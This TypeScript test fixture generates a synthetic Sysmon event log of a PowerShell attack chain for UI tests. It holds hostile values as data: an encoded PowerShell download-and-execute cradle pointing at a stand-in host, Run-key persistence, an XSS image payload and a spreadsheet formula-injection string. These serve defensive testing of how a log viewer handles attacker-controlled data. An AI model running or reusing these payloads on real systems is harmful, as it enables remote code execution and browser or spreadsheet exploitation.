// Generated evidence for the UI tests: a Sysmon Operational export (Event Viewer XML) from one host
// telling one attack chain — PowerShell starts, drops a payload, writes a Run value holding encoded
// PowerShell, the payload runs later — plus Run values whose data is hostile to the UI and to
// spreadsheets (HTML markup, a CSV formula). Built here so each test knows exactly what it holds.

export const HOSTILE_HTML = '<img src=x onerror=alert(1)>';
export const HOSTILE_FORMULA = "=cmd|' /C calc'!A0";
export const DECODED_SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')";
export const HOST = 'WS-TRAINING-07';

function utf16leBase64(s: string): string {
  return Buffer.from(s, 'utf16le').toString('base64');
}

export const ENCODED_COMMAND = `powershell.exe -NoP -W Hidden -Enc ${utf16leBase64(DECODED_SCRIPT)}`;

function xml(s: string): string {
  return s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
}

interface Ev {
  id: number;
  record: number;
  time: string; // ISO UTC, ms
  data: Record<string, string>;
}

function event(e: Ev): string {
  const data = Object.entries(e.data)
    .map(([k, v]) => `<Data Name="${k}">${xml(v)}</Data>`)
    .join('');
  return (
    `<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System>` +
    `<Provider Name="Microsoft-Windows-Sysmon" Guid="{5770385f-c22a-43e0-bf4c-06f5698ffbd9}"/>` +
    `<EventID>${e.id}</EventID><Version>2</Version><Level>4</Level><Task>${e.id}</Task><Opcode>0</Opcode>` +
    `<Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="${e.time}"/><EventRecordID>${e.record}</EventRecordID>` +
    `<Correlation/><Execution ProcessID="2100" ThreadID="3300"/><Channel>Microsoft-Windows-Sysmon/Operational</Channel>` +
    `<Computer>${HOST}</Computer><Security UserID="S-1-5-18"/></System><EventData>${data}</EventData></Event>`
  );
}

const utc = (iso: string) => iso.replace('T', ' ').replace('Z', '');
const PS_GUID = '{6a1e7b2c-0001-4d2e-9f00-000000000101}';
const EXPLORER_GUID = '{6a1e7b2c-0001-4d2e-9f00-000000000100}';
const PS = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const RUN = 'HKU\\S-1-5-21-1111111111-2222222222-3333333333-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Run';
const PAYLOAD = 'C:\\Users\\alice\\AppData\\Roaming\\updater.exe';

function setValue(record: number, time: string, name: string, details: string): Ev {
  return {
    id: 13,
    record,
    time,
    data: { RuleName: 'T1547.001', EventType: 'SetValue', UtcTime: utc(time), ProcessGuid: PS_GUID, ProcessId: '4242', Image: PS, TargetObject: `${RUN}\\${name}`, Details: details, User: 'CORP\\alice' },
  };
}

export function attackChainXml(): string {
  const events: Ev[] = [
    {
      id: 1,
      record: 1,
      time: '2024-05-01T10:00:00.100Z',
      data: {
        RuleName: '-', UtcTime: utc('2024-05-01T10:00:00.100Z'), ProcessGuid: PS_GUID, ProcessId: '4242', Image: PS, FileVersion: '10.0', Description: 'Windows PowerShell',
        Product: 'Microsoft Windows', Company: 'Microsoft Corporation', OriginalFileName: 'PowerShell.EXE', CommandLine: 'powershell.exe -NoP -File C:\\Users\\alice\\Downloads\\invoice.ps1',
        CurrentDirectory: 'C:\\Users\\alice\\', User: 'CORP\\alice', LogonGuid: '{6a1e7b2c-0000-0000-0000-000000000001}', LogonId: '0x3e7', TerminalSessionId: '1', IntegrityLevel: 'Medium',
        Hashes: 'SHA256=1111111111111111111111111111111111111111111111111111111111111111', ParentProcessGuid: EXPLORER_GUID, ParentProcessId: '3000', ParentImage: 'C:\\Windows\\explorer.exe',
        ParentCommandLine: 'C:\\Windows\\Explorer.EXE', ParentUser: 'CORP\\alice',
      },
    },
    {
      id: 11,
      record: 2,
      time: '2024-05-01T10:00:01.200Z',
      data: { RuleName: '-', UtcTime: utc('2024-05-01T10:00:01.200Z'), ProcessGuid: PS_GUID, ProcessId: '4242', Image: PS, TargetFilename: PAYLOAD, CreationUtcTime: utc('2024-05-01T10:00:01.200Z'), User: 'CORP\\alice' },
    },
    setValue(3, '2024-05-01T10:00:02.300Z', 'OneDriveUpdate', ENCODED_COMMAND),
    setValue(4, '2024-05-01T10:00:03.400Z', 'Updater', PAYLOAD),
    setValue(5, '2024-05-01T10:00:04.500Z', HOSTILE_HTML, `C:\\Users\\Public\\${HOSTILE_HTML}.exe`),
    setValue(6, '2024-05-01T10:00:05.600Z', 'CalcTest', HOSTILE_FORMULA),
    {
      id: 1,
      record: 7,
      time: '2024-05-01T10:20:00.000Z',
      data: {
        RuleName: '-', UtcTime: utc('2024-05-01T10:20:00.000Z'), ProcessGuid: '{6a1e7b2c-0001-4d2e-9f00-000000000102}', ProcessId: '5151', Image: PAYLOAD, CommandLine: `"${PAYLOAD}"`,
        CurrentDirectory: 'C:\\Windows\\system32\\', User: 'CORP\\alice', LogonGuid: '{6a1e7b2c-0000-0000-0000-000000000001}', LogonId: '0x3e7', TerminalSessionId: '1', IntegrityLevel: 'Medium',
        Hashes: 'SHA256=2222222222222222222222222222222222222222222222222222222222222222', ParentProcessGuid: EXPLORER_GUID, ParentProcessId: '3000', ParentImage: 'C:\\Windows\\explorer.exe',
        ParentCommandLine: 'C:\\Windows\\Explorer.EXE', ParentUser: 'CORP\\alice',
      },
    },
  ];
  return `<?xml version="1.0" encoding="utf-8"?>\n<Events>\n${events.map(event).join('\n')}\n</Events>\n`;
}
